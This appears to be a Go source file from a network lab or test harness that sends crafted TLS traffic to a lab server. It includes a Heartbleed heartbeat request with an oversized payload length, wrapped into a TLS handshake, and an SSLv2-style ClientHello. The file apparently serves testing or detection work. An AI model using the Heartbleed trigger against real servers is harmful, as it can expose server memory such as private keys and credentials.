package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"time"
)

// dial connects from the client's host.
func (s *stage) dial(ctx context.Context) (net.Conn, error) {
	c, err := s.lab.Client.DialContext(ctx, "tcp", fmt.Sprintf("%s:%d", s.lab.Server.IPv4, port))
	if err == nil {
		c.SetDeadline(time.Now().Add(2 * time.Second))
	}
	return c, err
}

// heartbleeding puts a heartbeat request behind the first write.
type heartbleeding struct {
	net.Conn
	done bool
}

func (h *heartbleeding) Write(b []byte) (int, error) {
	n, err := h.Conn.Write(b)
	if err == nil && !h.done {
		h.done = true
		// RFC 6520, Section 4: a payload of 16,384 bytes, of which none is there.
		_, err = h.Conn.Write([]byte{24, 3, 3, 0, 3, 1, 0x40, 0})
	}
	return n, err
}

// goHeartbleed does not care how it ends.
func goHeartbleed(ctx context.Context, s *stage) error {
	c, err := s.dial(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = tls.Client(&heartbleeding{Conn: c}, &tls.Config{InsecureSkipVerify: true, MaxVersion: tls.VersionTLS12}).HandshakeContext(ctx)
	return nil
}

// goSSLv2 sends the hello of RFC 5246, Appendix E.2, and reads what comes.
func goSSLv2(ctx context.Context, s *stage) error {
	c, err := s.dial(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	hello := []byte{0x80, 0, 1, 3, 1, 0, 9, 0, 0, 0, 16, 0, 0, 0x2f, 0, 0, 0x35, 0, 0, 0xff}
	hello = append(hello, "sixteen challenge"[:16]...)
	hello[1] = byte(len(hello) - 2)
	if _, err := c.Write(hello); err != nil {
		return err
	}
	c.SetDeadline(time.Now().Add(500 * time.Millisecond))
	_, _ = io.Copy(io.Discard, c)
	return nil
}
